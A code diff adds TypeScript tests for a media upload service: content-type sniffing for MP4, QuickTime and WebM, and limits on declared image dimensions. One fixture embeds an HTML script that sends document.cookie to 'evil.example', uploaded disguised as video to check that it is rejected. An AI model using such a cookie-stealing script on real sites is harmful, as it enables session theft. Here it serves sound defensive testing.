@@ -289,6 +289,7 @@ describe("presigned media flow, local storage", () => {
       ["mimeType", { ...valid, mimeType: "text/plain" }],
       ["width", { ...valid, width: -1 }],
       ["width", { ...valid, width: 1.5 }],
+      ["width", { ...valid, width: 100_000 }],
       ["height", { ...valid, height: "10" }],
       ["height", { ...valid, height: undefined }],
     ] as const) {
@@ -364,6 +365,101 @@ describe("S3 storage (s3rver): presigned media flow and profile images", () => {
     expect(response.statusCode).toBe(413);
     expect(await ctx.deps.storage.head(presigned.key)).toBeNull();
     expect(await ctx.db.select().from(media).where(eq(media.postId, postId))).toHaveLength(0);
+  });
+
+  /** Presigns, PUTs `bytes` straight to the bucket, then completes with `overrides` on the body. */
+  async function uploadAndComplete(mimeType: string, bytes: Buffer, overrides: Record<string, unknown> = {}) {
+    const user = await registerUser(ctx.app);
+    const postId = await createPost(ctx, user);
+    const presigned = await presign(ctx, user, mimeType);
+    const put = await fetch(presigned.url, { method: "PUT", headers: presigned.headers, body: bytes });
+    expect(put.status).toBe(200);
+    const response = await call(ctx, "/media/upload/complete", user, {
+      key: presigned.key,
+      postId,
+      mimeType,
+      width: 1920,
+      height: 1080,
+      ...overrides,
+    });
+    return { response, key: presigned.key, postId };
+  }
+
+  it("refuses bytes that are not the declared video type (HTML as video/mp4) with 400, as the multipart path does, and deletes them", async () => {
+    const html = Buffer.from(
+      `<!doctype html><html><body><script>document.location="https://evil.example/?c="+document.cookie</script>${"<p>x</p>".repeat(50)}</body></html>`,
+    );
+    const webm = Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3]), Buffer.alloc(60, 0)]);
+    for (const [mimeType, bytes] of [
+      ["video/mp4", html],
+      ["video/webm", html],
+      ["video/quicktime", Buffer.from("just some text, no video at all")],
+      ["video/mp4", webm],
+      ["video/mp4", await makeImage(8, 8, "jpeg")],
+    ] as const) {
+      const { response, key, postId } = await uploadAndComplete(mimeType, bytes);
+      expect(response.statusCode, mimeType).toBe(400);
+      expect(response.json().code).toBe("UNSUPPORTED_MEDIA_TYPE");
+      expect(s3.aclOf(key)).toBeUndefined();
+      expect(await ctx.deps.storage.head(key)).toBeNull();
+      expect(await ctx.db.select().from(media).where(eq(media.postId, postId))).toHaveLength(0);
+    }
+  });
+
+  it("sniffs the first bytes with one ranged GET and accepts a real MP4, QuickTime or WebM", async () => {
+    const mp4 = Buffer.concat([
+      Buffer.from([0, 0, 0, 0x18]),
+      Buffer.from("ftypisom", "latin1"),
+      Buffer.alloc(12, 0),
+      randomBytes(32 * 1024),
+    ]);
+    const mov = Buffer.concat([
+      Buffer.from([0, 0, 0, 0x14]),
+      Buffer.from("ftypqt  ", "latin1"),
+      Buffer.alloc(8),
+    ]);
+    const webm = Buffer.concat([
+      Buffer.from("1a45dfa3974286810142f7810142f2810442f381084282847765626d", "hex"),
+      Buffer.alloc(32),
+    ]);
+    for (const [mimeType, bytes] of [
+      ["video/mp4", mp4],
+      ["video/quicktime", mov],
+      ["video/webm", webm],
+    ] as const) {
+      const before = s3.requests.length;
+      const { response, key } = await uploadAndComplete(mimeType, bytes);
+      expect(response.statusCode, mimeType).toBe(200);
+      expect(s3.aclOf(key)).toBe("public-read");
+      const gets = s3.requests
+        .slice(before)
+        .filter((r) => r.method === "GET" && r.path.endsWith(key) && !r.query.has("acl"));
+      expect(gets.map((r) => r.headers.range)).toEqual(["bytes=0-4099"]);
+    }
+  });
+
+  it("refuses declared dimensions beyond what the multipart path accepts", async () => {
+    const png = await makeImage(8, 8);
+    for (const [field, dims] of [
+      ["width", { width: 100_000, height: 100_000 }],
+      ["width", { width: 16_385, height: 10 }],
+      ["height", { width: 10, height: 16_385 }],
+    ] as const) {
+      const { response } = await uploadAndComplete("image/png", png, dims);
+      expect(response.statusCode, JSON.stringify(dims)).toBe(400);
+      expect(response.json().code).toBe("VALIDATION_FAILED");
+      expect(response.json().errors.fieldErrors[field]).toBeDefined();
+    }
+    // Within the sides but over the pixels the media worker decodes (MEDIA_MAX_IMAGE_PIXELS).
+    const { response, postId } = await uploadAndComplete("image/png", png, { width: 16_000, height: 16_000 });
+    expect(response.statusCode).toBe(400);
+    expect(response.json()).toMatchObject({
+      code: "VALIDATION_FAILED",
+      errors: { fieldErrors: { width: [expect.any(String)], height: [expect.any(String)] } },
+    });
+    expect(await ctx.db.select().from(media).where(eq(media.postId, postId))).toHaveLength(0);
+    const fine = await uploadAndComplete("image/png", png, { width: 8, height: 8 });
+    expect(fine.response.statusCode).toBe(200);
   });
 
   it("stores avatars as public-read objects and deletes the replaced one from the bucket", async () => {
